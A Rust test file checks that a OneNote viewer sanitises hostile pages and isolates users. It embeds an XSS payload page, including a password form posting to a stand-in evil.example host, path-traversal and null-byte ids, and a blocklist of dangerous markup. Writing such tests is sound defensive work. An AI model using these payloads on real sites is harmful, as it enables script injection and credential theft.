//! Hostile page content shown inert, and another user's pages and resources not found, with bad
//! ids never reaching Graph.

use super::*;

#[tokio::test]
async fn hostile_page_content_is_shown_inert() {
    let emu = TestEmulator::start().await;
    let dir = TempDir::new();
    let app = TestApp::start(&emu, &dir).await;
    let token = emu
        .user_token("grace@contoso.example", "Notes.ReadWrite openid")
        .await;
    let graph = reqwest::Client::new();
    let sections: serde_json::Value = graph
        .get(format!("{}/v1.0/me/onenote/sections", emu.base_url))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let section = sections["value"][0]["id"].as_str().unwrap();
    let hostile = r#"<!DOCTYPE html><html><head><title>Pwn &lt;script&gt;alert(1)&lt;/script&gt;</title></head><body>
<p onclick="alert(1)" onmouseover="alert(2)">Click me</p>
<script>alert('script')</script>
<a href="javascript:alert(3)">js link</a> <a href="data:text/html,<script>alert(4)</script>">data link</a>
<img src="https://evil.example/track.png" onerror="alert(5)" alt="external"/>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoNikiLz4=" alt="data image"/>
<p style="background-image:url(javascript:alert(7));width:expression(alert(8))">css</p>
<form action="https://evil.example/steal"><input name="password"/><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert(9)</script></svg>
<p>Fine text</p>
</body></html>"#;
    let created = graph
        .post(format!(
            "{}/v1.0/me/onenote/sections/{section}/pages",
            emu.base_url
        ))
        .bearer_auth(&token)
        .header("content-type", "text/html")
        .body(hostile)
        .send()
        .await
        .unwrap();
    let status = created.status();
    let body = created.text().await.unwrap();
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let page: serde_json::Value = serde_json::from_str(&body).unwrap();
    let id = page["id"].as_str().unwrap();

    let user = User::new();
    user.sign_in_for_onenote(&app, "grace@contoso.example")
        .await;
    let view = user.get(&app.url(&format!("/onenote/pages/{id}"))).await;
    assert_eq!(view.status(), StatusCode::OK);
    let csp = view.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    let directive = |name: &str| {
        csp.split(';')
            .map(str::trim)
            .find_map(|d| d.strip_prefix(name).map(|v| v.trim().to_string()))
    };
    assert_eq!(
        directive("script-src ").as_deref(),
        Some("'self'"),
        "no inline script: {csp}"
    );
    assert_eq!(
        directive("default-src ").as_deref(),
        Some("'none'"),
        "{csp}"
    );
    assert_eq!(
        directive("frame-ancestors ").as_deref(),
        Some("'none'"),
        "{csp}"
    );
    let html = view.text().await.unwrap();
    let lower = html.to_ascii_lowercase();
    assert!(html.contains("Fine text"));
    for forbidden in [
        "<script",
        "onclick",
        "onerror",
        "onload",
        "onmouseover",
        "javascript:",
        "expression(",
        "evil.example",
        "<form",
        "<iframe",
        "<svg",
        "data:text/html",
    ] {
        assert!(
            !lower.contains(forbidden),
            "{forbidden} must not survive: {html}"
        );
    }
}

#[tokio::test]
async fn another_users_pages_and_resources_are_not_found_and_bad_ids_never_reach_graph() {
    let emu = TestEmulator::start().await;
    emu.call_admin(
        Method::PUT,
        "/limits",
        json!({"per_minute": 100000, "per_hour": 1000000, "concurrent": 20}),
    )
    .await;
    let dir = TempDir::new();
    let app = TestApp::start(&emu, &dir).await;
    let resources: serde_json::Value =
        reqwest::get(emu.admin("/onenote/ada@contoso.example/resources"))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    let adas_resource = resources["resources"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let adas_page = resources["resources"][0]["page"]
        .as_str()
        .unwrap()
        .to_string();

    let mallory = User::new();
    mallory
        .sign_in_for_onenote(&app, "mallory@fabrikam.example")
        .await;
    assert_eq!(
        mallory.get(&app.url("/onenote")).await.status(),
        StatusCode::OK
    );
    for path in [
        format!("/onenote/pages/{adas_page}"),
        format!("/onenote/pages/{adas_page}.md"),
        format!("/onenote/pages/{adas_page}.zip"),
        format!("/onenote/resources/{adas_resource}"),
    ] {
        let response = mallory.get(&app.url(&path)).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
    }
    let since = emu.log_position().await;
    for bad in [
        "..%2F..%2Fme",
        "https:%2F%2Fevil.example%2Fx",
        "%2E%2E",
        "a%00b",
        "1-abc!1-def%3Fx=1",
        "x\u{202e}y",
    ] {
        let response = mallory
            .get(&app.url(&format!("/onenote/resources/{bad}")))
            .await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{bad}");
        let response = mallory
            .get(&app.url(&format!("/onenote/pages/{bad}")))
            .await;
        assert!(
            response.status() == StatusCode::NOT_FOUND
                || response.status() == StatusCode::BAD_REQUEST,
            "{bad}"
        );
    }
    let log = emu
        .call_admin(
            Method::GET,
            &format!("/log?since={since}"),
            serde_json::Value::Null,
        )
        .await;
    assert!(
        log["entries"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| !e["path"].as_str().unwrap().contains("evil")),
        "nothing reached Graph"
    );
}
